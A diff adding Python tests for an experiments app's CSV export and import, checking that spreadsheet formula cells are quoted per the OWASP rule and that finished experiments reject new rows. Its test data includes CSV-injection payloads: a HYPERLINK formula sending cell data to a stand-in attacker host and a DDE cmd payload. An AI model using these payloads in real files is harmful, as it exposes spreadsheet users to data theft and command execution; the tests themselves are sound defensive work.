@@ -11,7 +11,7 @@ import pytest
 from models.experiment import Criterion, ExperimentCreate, ResultInput
 from services.core.errors import InvalidInput
 from services.experiments import experiments
-from services.transfer import results_csv
+from services.transfer import cells, results_csv
 from tests.conftest import check_matrix
 
 
@@ -177,3 +177,87 @@ def test_import_writes_follow_the_matrix(world):
         results_csv.apply(user, preview)
 
     check_matrix(world, "experiment.result.record", attempt)
+
+
+# --- spreadsheet formulas stay text, both ways ------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
+
+
+def test_formulas_are_quoted_in_the_export_and_come_back_unchanged(world):
+    experiment = make_experiment(world)
+    lag = world["lag_member"]
+    for note in [*FORMULAS, "-3 vendors left", "\tTabbed", "'=already quoted"]:
+        experiments.record_result(
+            lag, experiment.id, ResultInput(date=dt.date(2026, 3, 20), value=-3, note=note)
+        )
+    text = results_csv.export_city(lag, world.city)
+    rows = rows_of(text)
+    notes = [r["note"] for r in rows]
+    # No cell a spreadsheet would run: each starts with the quote OWASP prescribes.
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or value == "-3", value
+    assert "'" + FORMULAS[0] in notes and "'@SUM(1+1)" in notes
+    assert "''=already quoted" in notes
+    assert [r["value"] for r in rows if r["note"] == "'@SUM(1+1)"] == ["-3"]  # still a number
+
+    preview = results_csv.preview(lag, text.encode("utf-8"))
+    assert preview.valid
+    assert preview.counts()["unchanged"] == len(rows)  # every cell came back as it was
+    by_note = {r.data.note: r.data for r in preview.rows}
+    assert set(FORMULAS) <= set(by_note)
+    assert "'=already quoted" in by_note and "\tTabbed" not in by_note  # stripped on input
+    assert by_note["@SUM(1+1)"].value == -3
+
+
+def test_the_cells_helper_follows_the_owasp_rule():
+
+    for text in [*FORMULAS, "-x", "\t1", "\r2", "=1+1"]:
+        assert cells.safe(text) == "'" + text
+        assert cells.unquote(cells.safe(text)) == text
+    for text in ["-3", "+1.5", "-2,5", "1e-3", "plain", "", "it's", "'quoted text"]:
+        assert cells.safe(text) == text
+        assert cells.unquote(text) == text
+    assert cells.safe(-3) == "-3" and cells.safe(None) == ""
+    text = cells.csv_text(["a", "b"], [{"a": "=1", "b": -3}])
+    assert text == "a,b\n'=1,-3\n"
+
+
+def test_no_new_results_for_an_experiment_that_is_done(world):
+    experiment = make_experiment(world)
+    lag = world["lag_member"]
+    rows = rows_of(results_csv.export_city(lag, world.city))
+    new_row = {**rows[0], "entry_id": "", "date": "2026-03-25", "value": "1", "note": "late"}
+    fixed = {**rows[1], "value": "31"}
+    experiments.set_status(world["admin"], experiment, "done")
+
+    preview = results_csv.preview(lag, write([new_row, fixed]))
+    assert [r.state for r in preview.rows] == ["invalid", "changed"]
+    lines = results_csv.error_lines(preview, "en")
+    assert lines == [
+        "Row 2, experiment_id: new results can only be added to a running experiment "
+        "(as on Record a result)"
+    ]
+    assert results_csv.error_lines(preview, "fr")[0].startswith("Ligne 2, experiment_id")
+    with pytest.raises(InvalidInput):
+        results_csv.apply(lag, preview)
+    assert results_csv.apply(lag, preview, only_valid=True) == {"new": 0, "changed": 1}
+    after = experiments.get_experiment(world["admin"], experiment.id)
+    assert len(after.results) == len(experiment.results)
+
+
+def test_an_experiment_closed_after_the_preview_gets_no_new_row(world):
+    experiment = make_experiment(world)
+    lag = world["lag_member"]
+    rows = rows_of(results_csv.export_city(lag, world.city))
+    new_row = {**rows[0], "entry_id": "", "date": "2026-03-25", "value": "99", "note": "late"}
+    preview = results_csv.preview(lag, write([new_row]))
+    assert preview.valid
+    experiments.set_status(world["admin"], experiment, "done")
+    assert results_csv.apply(lag, preview) == {"new": 0, "changed": 0}
+    assert preview.rows[0].state == "invalid"
+    assert "running experiment" in results_csv.error_lines(preview)[0]
+    after = experiments.get_experiment(world["admin"], experiment.id)
+    assert [e.value for e in after.results if e.value == 99] == []
